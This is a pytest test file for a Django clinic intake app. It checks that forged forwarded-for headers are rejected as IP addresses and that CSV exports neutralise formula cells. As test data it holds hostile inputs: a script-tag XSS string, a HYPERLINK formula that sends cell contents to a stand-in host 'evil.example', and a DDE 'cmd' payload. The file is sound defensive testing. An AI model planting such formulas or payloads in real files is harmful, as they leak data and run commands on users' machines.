"""What the audit records keep: real addresses only, and exports a spreadsheet cannot run."""

import csv
import io
import ipaddress

import pytest
from django.urls import reverse
from django.utils import timezone

from intake.models import AccessLog, Consent
from intake.services import ip_address_or_none
from medspa.exports import csv_safe
from tests.factories import AccessLogFactory, PatientFactory
from tests.intake.test_intake_flow import complete

pytestmark = pytest.mark.django_db

FORGED = "<script>alert(1)</script>"


def stored_ip_is_an_address_or_nothing(value) -> bool:
    return value is None or ipaddress.ip_address(value) is not None


def test_a_forged_forwarded_for_cannot_store_garbage_as_a_consents_address(client, booked, consent_text):
    """Found: a script tag was stored as a consent's IP."""
    _appointment, token = booked()
    client.defaults["HTTP_X_FORWARDED_FOR"] = FORGED
    complete(client, token)
    consent = Consent.objects.get()
    assert FORGED not in str(consent.ip_address)
    assert stored_ip_is_an_address_or_nothing(consent.ip_address)


def test_a_forged_forwarded_for_cannot_store_garbage_in_the_access_log(client, booked, consent_text, injector_user):
    appointment, token = booked()
    complete(client, token)
    client.force_login(injector_user)
    client.get(reverse("intake:review", args=[appointment.reference]), HTTP_X_FORWARDED_FOR=FORGED)
    entry = AccessLog.objects.get()
    assert stored_ip_is_an_address_or_nothing(entry.ip_address) and FORGED not in str(entry.ip_address)


def test_a_control_character_in_the_user_agent_is_not_stored(client, booked, consent_text):
    _appointment, token = booked()
    client.defaults["HTTP_USER_AGENT"] = "Phone\x00Safari\x1b"
    complete(client, token)
    assert Consent.objects.get().user_agent in ("PhoneSafari", "Phone Safari")


@pytest.mark.parametrize(
    ("value", "stored"),
    [("203.0.113.9", "203.0.113.9"), (" 2001:db8::1 ", "2001:db8::1"), (FORGED, None), ("", None), (None, None),
     ("203.0.113.9, 10.0.0.1", None)],
)  # fmt: skip
def test_only_a_real_address_is_kept(value, stored):
    assert ip_address_or_none(value) == stored


def test_the_access_log_export_neutralises_formula_cells(client, manager_user):
    """Found: CSV exports wrote cells starting with = + - @ as they are."""
    patient = PatientFactory(first_name='=HYPERLINK("https://evil.example/?"&A1', last_name="Smith")
    AccessLogFactory(actor=manager_user, patient=patient, what="@SUM(1+1)", object_id="-2+3", at=timezone.now(),
                     ip_address=None, path="+cmd|' /C calc'!A0")  # fmt: skip
    client.force_login(manager_user)
    export = client.get(reverse("intake:access-log") + "?format=csv")
    assert export.status_code == 200 and "no-store" in export["Cache-Control"]
    header, row = list(csv.reader(io.StringIO(export.content.decode())))
    assert header[0] == "at (UTC)"
    assert row[3] == '\'=HYPERLINK("https://evil.example/?"&A1 Smith'
    assert (row[4], row[5], row[7]) == ("'@SUM(1+1)", "'-2+3", "'+cmd|' /C calc'!A0")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("Ada", "Ada"), ("a=b", "a=b"), ("", ""), (42, 42), (None, None)],
)  # fmt: skip
def test_csv_safe_prefixes_only_cells_a_spreadsheet_would_run(cell, written):
    assert csv_safe(cell) == written
